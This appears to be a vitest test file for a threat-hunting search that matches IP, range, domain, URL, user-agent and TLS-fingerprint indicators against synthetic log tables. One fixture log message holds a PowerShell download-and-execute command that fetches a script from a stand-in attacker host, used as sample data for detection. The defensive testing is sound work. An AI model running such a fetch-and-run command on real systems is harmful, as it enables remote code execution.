// SPDX-License-Identifier: Apache-2.0
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { logEngineAbsent, openLogTables } from '../../../test/support/log-tables.ts';
import type { LogTables } from '../../../test/support/log-tables.ts';
import type { Instant } from '../../kernel/instant.ts';
import { unwrap } from '../../kernel/result.ts';
import { ALWAYS } from '../engine/period.ts';
import type { Period } from '../engine/period.ts';
import type { Table } from '../engine/schema.ts';
import type { Indicator } from './indicator.ts';
import { hitsWhere, searchIndicators, searchSql, storeIndicators } from './search.ts';

const name = logEngineAbsent ? 'hunt/indicator/search (skipped: chdb is not installed in engines/chdb)' : 'hunt/indicator/search';
const at = (minute: number): string => `2026-11-21 05:${String(minute).padStart(2, '0')}:00`;

describe.skipIf(logEngineAbsent)(name, () => {
  let logs: LogTables;
  let sets = 0;

  beforeAll(async () => {
    logs = await openLogTables();
    await logs.fill('web', [
      { '@timestamp': at(0), 'source.ip': '10.0.0.1', 'url.domain': 'EVIL.example:443', 'url.original': 'http://EVIL.example:80/a#x' },
      { '@timestamp': at(1), 'source.ip': '10.0.0.1', 'url.domain': 'www.evil.example.', 'url.original': '/b' },
      { '@timestamp': at(2), 'source.ip': '10.0.0.2', 'url.domain': 'notevil.example', 'url.original': '/evil.example' },
      { '@timestamp': at(3), 'source.ip': '10.0.0.3', 'destination.ip': '203.0.113.7', 'user_agent.original': 'BadBot/1.0' },
      { '@timestamp': at(4), 'source.ip': '10.0.0.4', 'url.domain': '203.0.113.7:8080', 'url.original': '/' },
      { '@timestamp': at(5), 'source.ip': '10.0.0.5', 'network.forwarded_ip': '198.51.100.1,203.0.113.7,198.51.100.2' },
      { '@timestamp': at(6), 'source.ip': '203.0.113.7', 'user_agent.original': 'badbot/1.0' },
    ]);
    await logs.fill('flow', [
      ...Array.from({ length: 7 }, (_, count) => ({
        '@timestamp': at(10 + count),
        'source.ip': '10.0.0.1',
        'destination.ip': '203.0.113.7',
      })),
      { '@timestamp': at(20), 'source.ip': '10.0.0.2', 'destination.ip': '203.0.113.99', 'destination.domain': 'a.b.evil.example' },
      { '@timestamp': at(21), 'source.ip': '10.0.0.3', 'destination.ip': '203.0.113.250' },
      ...Array.from({ length: 7 }, (_, count) => ({
        '@timestamp': at(22),
        'source.ip': '10.0.0.9',
        'destination.ip': `198.51.100.${count + 10}`,
      })),
    ]);
    await logs.fill('dns', [
      {
        '@timestamp': at(30),
        'source.ip': '10.0.0.6',
        'destination.ip': '10.0.0.53',
        'dns.question.name': 'Deep.Sub.evil.example',
        'dns.answers': '198.51.100.1,203.0.113.7',
      },
      {
        '@timestamp': at(31),
        'source.ip': '10.0.0.7',
        'destination.ip': '203.0.113.7',
        'dns.question.name': 'fine.example',
        'dns.answers': '',
      },
    ]);
    await logs.fill('event', [
      {
        '@timestamp': at(40),
        'source.ip': '10.0.0.8',
        'destination.ip': '203.0.113.7',
        'destination.domain': 'evil.example',
        'tls.client.ja3': 'aa11',
        'tls.client.ja4': 'bb22',
        'user_agent.original': 'BadBot/1.0',
      },
      {
        '@timestamp': at(41),
        'host.name': 'pc21.corp.example',
        message: `IEX (New-Object Net.WebClient).DownloadString('HTTP://Stage.Evil.example:80/a.ps1?x=1,2'); ping 203.0.113.77.`,
      },
      {
        '@timestamp': at(42),
        'source.ip': '10.0.0.9',
        extra: { 'asa.text': '10.0.0.9 Accessed URL 203.0.113.77:/x, then 1203.0.113.77, 203.0.113.77.1 and [2001:DB8:0::7]:443' },
      },
    ]);
  }, 60_000);
  afterAll(() => logs.close());

  /** `table role computer value <- indicator xcount`, in the order it is given. */
  async function search(indicators: readonly Indicator[], period: Period = ALWAYS): Promise<readonly string[]> {
    sets += 1;
    const found = unwrap(await searchIndicators(logs.engine, `set ${sets}`, indicators, period));
    return found.map((one) => `${one.table} ${one.role} ${one.computer} ${one.value} <- ${one.kind} ${one.indicator} x${one.count}`);
  }

  it('finds an address at every place where one can stand, in every table, the most frequent first', async () => {
    const found = await search([{ kind: 'ip', value: '203.0.113.7' }]);

    expect(found[0]).toBe('flow destination 10.0.0.1 203.0.113.7 <- ip 203.0.113.7 x7');
    expect(found.slice(1).toSorted()).toEqual([
      'dns answer 10.0.0.6 203.0.113.7 <- ip 203.0.113.7 x1',
      'dns resolver 10.0.0.7 203.0.113.7 <- ip 203.0.113.7 x1',
      'event destination 10.0.0.8 203.0.113.7 <- ip 203.0.113.7 x1',
      'web destination 10.0.0.3 203.0.113.7 <- ip 203.0.113.7 x1',
      'web forwarded for 10.0.0.5 203.0.113.7 <- ip 203.0.113.7 x1',
      'web host 10.0.0.4 203.0.113.7 <- ip 203.0.113.7 x1',
      'web source 203.0.113.7 203.0.113.7 <- ip 203.0.113.7 x1',
    ]);
  });

  it('finds what an event says in its text, as a whole word and once, and names the computer that has no address', async () => {
    const found = async (one: Indicator) => (await search([one])).filter((line) => line.includes('in the text')).toSorted();
    expect(await found({ kind: 'ip', value: '203.0.113.77' })).toEqual([
      'event in the text 10.0.0.9 203.0.113.77 <- ip 203.0.113.77 x1',
      'event in the text pc21.corp.example 203.0.113.77 <- ip 203.0.113.77 x1',
    ]);
    expect(await found({ kind: 'ip', value: '2001:db8::7' })).toEqual(['event in the text 10.0.0.9 2001:db8::7 <- ip 2001:db8::7 x1']);
    expect(await found({ kind: 'cidr', value: '203.0.113.72/29' })).toHaveLength(2);
    expect(await found({ kind: 'domain', value: 'evil.example' })).toEqual([
      'event in the text pc21.corp.example stage.evil.example <- domain evil.example x1',
    ]);
    expect(await found({ kind: 'domain', value: 'vil.example' })).toEqual([]);
    expect(await found({ kind: 'url', value: 'stage.evil.example/a.ps1?x=1,2' })).toEqual([
      'event in the text pc21.corp.example stage.evil.example/a.ps1?x=1,2 <- url stage.evil.example/a.ps1?x=1,2 x1',
    ]);
    // What stands in a column of its own is not found a second time.
    expect(await found({ kind: 'ip', value: '10.0.0.9' })).toEqual([]);
  });

  it('finds a domain and all below it, whatever its case, port or final dot, and no name that only ends like it', async () => {
    expect((await search([{ kind: 'domain', value: 'evil.example' }])).toSorted()).toEqual([
      'dns question 10.0.0.6 deep.sub.evil.example <- domain evil.example x1',
      'event host 10.0.0.8 evil.example <- domain evil.example x1',
      'event in the text pc21.corp.example stage.evil.example <- domain evil.example x1',
      'flow host 10.0.0.2 a.b.evil.example <- domain evil.example x1',
      'web host 10.0.0.1 evil.example <- domain evil.example x1',
      'web host 10.0.0.1 www.evil.example <- domain evil.example x1',
    ]);
  });

  it('of two domains one of which lies below the other, names the nearer one', async () => {
    const found = await search([
      { kind: 'domain', value: 'evil.example' },
      { kind: 'domain', value: 'b.evil.example' },
    ]);

    expect(found.filter((line) => line.startsWith('flow'))).toEqual(['flow host 10.0.0.2 a.b.evil.example <- domain b.evil.example x1']);
  });

  it('finds addresses of a range, named by the narrowest that holds them, and takes no name for an address', async () => {
    const found = await search([
      { kind: 'cidr', value: '203.0.113.0/25' },
      { kind: 'cidr', value: '203.0.113.64/26' },
    ]);

    expect(found.filter((line) => /^(?:flow|dns)/.test(line)).toSorted()).toEqual([
      'dns answer 10.0.0.6 203.0.113.7 <- cidr 203.0.113.0/25 x1',
      'dns resolver 10.0.0.7 203.0.113.7 <- cidr 203.0.113.0/25 x1',
      'flow destination 10.0.0.1 203.0.113.7 <- cidr 203.0.113.0/25 x7',
      'flow destination 10.0.0.2 203.0.113.99 <- cidr 203.0.113.64/26 x1',
    ]);
  });

  it('asks of a mixed list each place for its own kind: a name is no range of addresses', async () => {
    const found = await search([
      { kind: 'domain', value: 'b.evil.example' },
      { kind: 'cidr', value: '203.0.113.64/26' },
      { kind: 'url', value: 'evil.example/a' },
    ]);

    expect(found.filter((line) => line.startsWith('flow')).toSorted()).toEqual([
      'flow destination 10.0.0.2 203.0.113.99 <- cidr 203.0.113.64/26 x1',
      'flow host 10.0.0.2 a.b.evil.example <- domain b.evil.example x1',
    ]);
  });

  it.each<readonly [Indicator, readonly string[]]>([
    [{ kind: 'url', value: 'evil.example/a' }, ['web url 10.0.0.1 evil.example/a <- url evil.example/a x1']],
    [
      { kind: 'user-agent', value: 'BadBot/1.0' },
      [
        'event user agent 10.0.0.8 BadBot/1.0 <- user-agent BadBot/1.0 x1',
        'web user agent 10.0.0.3 BadBot/1.0 <- user-agent BadBot/1.0 x1',
      ],
    ],
    [{ kind: 'ja3', value: 'aa11' }, ['event ja3 10.0.0.8 aa11 <- ja3 aa11 x1']],
    [{ kind: 'ja4', value: 'bb22' }, ['event ja4 10.0.0.8 bb22 <- ja4 bb22 x1']],
    [{ kind: 'ja3', value: 'bb22' }, []],
  ])('finds %o as what it is, and as nothing else', async (indicator, wanted) => {
    expect((await search([indicator])).toSorted()).toEqual(wanted);
  });

  it('asks only of the time it is asked about: from its beginning on, before its end', async () => {
    const address: Indicator = { kind: 'ip', value: '203.0.113.7' };
    const period = (since: string | null, until: string | null) => ({ since, until }) as Period;
    const [from, to] = ['2026-11-21T05:12:00.000Z', '2026-11-21T05:15:00.000Z'] as [Instant, Instant];

    expect(await search([address], period(from, to))).toEqual(['flow destination 10.0.0.1 203.0.113.7 <- ip 203.0.113.7 x3']);
    expect((await search([address], period('2026-11-21T05:40:00.000Z', null))).length).toBe(1);
    expect((await search([address], period(null, '2026-11-21T05:03:00.000Z'))).length).toBe(0);
  });

  it('says when it was first and last, and where the first five of it are to be read', async () => {
    const found = unwrap(await searchIndicators(logs.engine, 'when', [{ kind: 'ip', value: '203.0.113.7' }], ALWAYS));

    expect(found[0]).toMatchObject({
      count: 7,
      first: '2026-11-21T05:10:00Z',
      last: '2026-11-21T05:16:00Z',
      lines: [0, 1, 2, 3, 4].map((line) => ({ file: 1, line })),
    });
  });

  it('searches every one of thousands of indicators, the last of each thousand too', async () => {
    const places = [0, 999, 1000, 1999, 2000, 2999, 3000];
    const met = (place: number): boolean => places.includes(place);
    const many = Array.from(
      { length: 3001 },
      (_, place): Indicator => ({ kind: 'ip', value: met(place) ? `198.51.100.${places.indexOf(place) + 10}` : `192.0.2.${place}` }),
    );

    expect((await search(many)).map((line) => line.split(' ')[3] ?? '').toSorted()).toEqual(
      places.map((_, index) => `198.51.100.${index + 10}`),
    );
  });

  it('searches a set of exactly a thousand', async () => {
    const many = Array.from(
      { length: 1000 },
      (_, place): Indicator => ({ kind: 'ip', value: place === 999 ? '203.0.113.250' : `192.0.2.${place}` }),
    );

    expect(await search(many)).toEqual(['flow destination 10.0.0.3 203.0.113.250 <- ip 203.0.113.250 x1']);
  });

  it('keeps a set once: who searches it again finds the same, and another set finds its own', async () => {
    const first: readonly Indicator[] = [{ kind: 'ip', value: '203.0.113.250' }];
    for (const _ of [1, 2]) unwrap(await storeIndicators(logs.engine, 'kept', first));
    const rows = unwrap(await logs.engine.read("SELECT name, kind, value FROM matoi.indicators WHERE name = 'kept'"));

    expect(rows).toEqual([{ name: 'kept', kind: 'ip', value: '203.0.113.250' }]);
  });

  it('a fault of the engine is given as one, never as nothing found', async () => {
    const fault = { ok: false, error: { code: 'engine-lost', detail: 'gone' } } as const;
    const lost = { ...logs.engine, read: () => Promise.resolve(fault) };
    const deaf = { ...logs.engine, write: () => Promise.resolve(fault) };
    const full = { ...logs.engine, write: (sql: string) => (sql.startsWith('INSERT') ? Promise.resolve(fault) : logs.engine.write(sql)) };
    const asked: readonly Indicator[] = [{ kind: 'ip', value: '203.0.113.7' }];

    for (const engine of [lost, deaf, full]) expect(await searchIndicators(engine, 'fault', asked, ALWAYS)).toEqual(fault);
    // Stored, and then the search itself fails.
    unwrap(await storeIndicators(logs.engine, 'fault', asked));
    const later = {
      ...logs.engine,
      read: (sql: string) => (sql.includes('arrayJoin') ? Promise.resolve(fault) : logs.engine.read(sql)),
    } as typeof logs.engine;
    expect(await searchIndicators(later, 'fault', asked, ALWAYS)).toEqual(fault);
  });

  it('asks no table for what it cannot hold', () => {
    const ask = (table: Table, kind: Indicator['kind']) => {
      const asked = [{ kind, value: 'x' }];
      return [searchSql(table, 'n', new Set([kind]), ALWAYS, asked), hitsWhere(table, 'n', new Set([kind]), ALWAYS, asked)].map(
        (sql) => sql !== null,
      );
    };

    expect([ask('dns', 'url'), ask('flow', 'ja3'), ask('web', 'ja4')]).toEqual(Array.from({ length: 3 }, () => [false, false]));
    expect([ask('web', 'url'), ask('event', 'ja3'), ask('flow', 'domain')]).toEqual(Array.from({ length: 3 }, () => [true, true]));
  });

  it('the rows that a search counts are those that it says it would look at', async () => {
    const indicators: readonly Indicator[] = [
      { kind: 'ip', value: '203.0.113.7' },
      { kind: 'domain', value: 'evil.example' },
    ];
    unwrap(await storeIndicators(logs.engine, 'where', indicators));
    const until = '2026-11-21T05:05:00.000Z' as Instant;
    const where = hitsWhere('web', 'where', new Set(['ip', 'domain']), { since: null, until }, indicators);
    const rows = unwrap(await logs.engine.read<{ line: number }>(`SELECT line FROM matoi.web WHERE ${where} ORDER BY line`));

    expect(rows.map((row) => row.line)).toEqual([0, 1, 3, 4]);
  });
});
